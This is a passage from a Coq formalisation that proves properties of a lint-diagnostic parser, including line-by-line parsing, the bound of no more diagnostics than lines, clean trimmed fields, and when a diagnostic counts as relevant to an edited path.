  - intros names -> Hno. unfold getProjectTaskListFrom.
    destruct (find (listMatches (dirNameOf dir) "bugfix") names) as [b|] eqn:Eb.
    + apply find_some in Eb as [Hb Hmb]. destruct (Hno b Hb). congruence.
    + destruct (find (listMatches (dirNameOf dir) "dev") names) as [d|] eqn:Ed;
        [|reflexivity].
      apply find_some in Ed as [Hd Hmd]. destruct (Hno d Hd). congruence.
  - intros [-> | ->]; reflexivity.
Qed.

End ProjectDisk.

(* ===================================================================== *)
(** ** More on the diagnostic parser *)
(* ===================================================================== *)

Module ParserMore.
Import JS JSFacts Regex RegexFacts Hook Spec.

Local Open Scope regex_scope.

Lemma parseStep_app (errors : list LintError) (ln : string) :
  parseStep errors ln = (errors ++ parseStep [] ln)%list.
Proof.
  unfold parseStep.
  destruct (exec eslintRe ln); [reflexivity|].
  destruct (exec biomeRe ln); [reflexivity|].
  destruct (exec genericRe ln) as [m|]; [|now rewrite app_nil_r].
  destruct (negb _); [reflexivity | now rewrite app_nil_r].
Qed.

Lemma parseLoop_app (lns : list string) :
  forall errors,
    fold_left parseStep lns errors = (errors ++ fold_left parseStep lns [])%list.
Proof.
  induction lns as [|ln lns IH]; intros errors; simpl.
  - now rewrite app_nil_r.
  - rewrite (IH (parseStep errors ln)), (IH (parseStep [] ln)), parseStep_app.
    now rewrite app_assoc.
Qed.

(** X19. The parser works line by line: the diagnostics of two outputs joined by
    a line feed are those of the first followed by those of the second, and
    a final line feed adds nothing. *)
Theorem parse_of_joined_outputs (a b : string) :
  parseLintOutput (a ++ nl ++ b) = (parseLintOutput a ++ parseLintOutput b)%list
  /\ parseLintOutput (a ++ nl) = parseLintOutput a.
Proof.
  assert (H : forall x y,
             parseLintOutput (x ++ nl ++ y)
             = (parseLintOutput x ++ parseLintOutput y)%list).
  { intros x y. unfold parseLintOutput, nl.
    change (String "010" "" ++ y) with (String "010" y).
    rewrite RepoPattern.split_append_sep, fold_left_app.
    apply parseLoop_app. }
  split; [apply H|].
  replace (a ++ nl) with (a ++ nl ++ "") by reflexivity.
  rewrite H. apply app_nil_r.
Qed.

Lemma parsesTo_length (lns : list string) (ds : list LintError) :
  ParsesTo lns ds -> List.length ds <= List.length lns.
Proof. induction 1; simpl; lia. Qed.

(** X20. There are never more diagnostics than lines. *)
Theorem no_more_diagnostics_than_lines (output : string) :
  List.length (parseLintOutput output) <= List.length (split "010" output).
Proof. apply parsesTo_length, Parser.parseLintOutput_parsesTo. Qed.

(** [trim] leaves no white space at either end. *)
Lemma trimStart_head (s : string) (c : ascii) (r : string) :
  trimStart s = String c r -> isSpace c = false.
Proof.
  induction s as [|a s IH]; simpl; [discriminate|].
  destruct (isSpace a) eqn:E; [exact IH|].
  intros H. injection H as <- _. exact E.
Qed.

Lemma trimEnd_head (s : string) (c : ascii) (r : string) :
  (forall c' r', s = String c' r' -> isSpace c' = false) ->
  trimEnd s = String c r -> isSpace c = false.
Proof.
  destruct s as [|a s]; simpl; [discriminate|].
  intros Hs. specialize (Hs a s eq_refl).
  destruct (trimEnd s); [rewrite Hs|]; intros H; injection H as <- _; exact Hs.
Qed.

Lemma trimEnd_last (s : string) :
  forall r c, trimEnd s = r ++ String c "" -> isSpace c = false.
Proof.
  induction s as [|a s IH]; intros r c; simpl.
  - destruct r; discriminate.
  - destruct (trimEnd s) as [|b t] eqn:E.
    + destruct (isSpace a) eqn:Ea; [destruct r; discriminate|].
      destruct r as [|x [|y r]]; simpl; intros H; try discriminate.
      now injection H as <-.
    + destruct r as [|x r]; simpl; intros H; [discriminate|].
      injection H as _ H. now apply (IH r c).
Qed.

Lemma trim_trimmed (s : string) : Trimmed (trim s).
Proof.
  unfold trim. split.
  - intros c r H. apply (trimEnd_head (trimStart s) c r); [|exact H].
    intros c' r'. apply trimStart_head.
  - intros r c H. now apply (trimEnd_last (trimStart s) r c).
Qed.

Lemma diagnoses_message (ln : string) (d : LintError) :
  Diagnoses ln d -> exists x, message d = trim x.
Proof.
  intros [(m & _ & ->)|[(_ & m & _ & ->)|(_ & _ & _ & m & _ & ->)]];
    eexists; reflexivity.
Qed.

(** X21. Every diagnostic has the severity "error" or "warning", a message with
    no white space at either end, and a file that is not empty. *)
Theorem diagnostic_fields_are_clean (output : string) (d : LintError) :
  In d (parseLintOutput output) ->
  (severity d = "error" \/ severity d = "warning")
  /\ Trimmed (message d)
  /\ file d <> "".
Proof.
  intros Hin.
  destruct (Parser.parsesTo_in _ _ d (Parser.parseLintOutput_parsesTo output) Hin)
    as (ln & _ & D).
  split; [now apply Parser.diagnoses_severity with (ln := ln)|].
  split.
  - destruct (diagnoses_message ln d D) as (x & ->). apply trim_trimmed.
  - apply Parser.diagnoses_located in D as (f & l & c & (rest & _ & Hf & _) & <- & _).
    exact Hf.
Qed.

Lemma diagnostic_fields_are_clean_witness :
  ("error" = "error" \/ "error" = "warning")
  /\ Trimmed "'x' is never used"
  /\ "src/a.ts" <> "".
Proof.
  apply (diagnostic_fields_are_clean
           commonLine
           {| file := "src/a.ts"; line := Some 10%Z; column := Some 5%Z;
              message := "'x' is never used"; rule := Some "no-unused-vars";
              severity := "error" |}).
  left. reflexivity.
Defined.









(** X23. An edited path that ends with a slash has an empty last segment, which
    every file name ends with: all diagnostics are then relevant. With no
    edited path none is. *)
Theorem path_ending_in_slash_makes_all_relevant
        (edited : list string) (e : LintError) (f : string) :
  In f edited -> endsWith f "/" = true ->
  isRelevant edited e = true /\ isRelevant [] e = false.
Proof.
  intros Hin Hs. split; [|reflexivity].
  apply Emitter.isRelevant_iff. exists f. split; [exact Hin|]. right.
  apply endsWith_iff in Hs as (u & ->).
  unfold lastSegment. change (u ++ "/") with (u ++ String "/" "").
  rewrite RepoPattern.split_append_sep. cbn [split]. rewrite last_last.
  exists (file e). now rewrite append_nil_r.
Qed.

Lemma path_ending_in_slash_makes_all_relevant_witness :
  isRelevant ["src/"] libDiagnostic = true /\ isRelevant [] libDiagnostic = false.
Proof.
  apply (path_ending_in_slash_makes_all_relevant ["src/"] libDiagnostic "src/");
    [now left | reflexivity].
Defined.

End ParserMore.
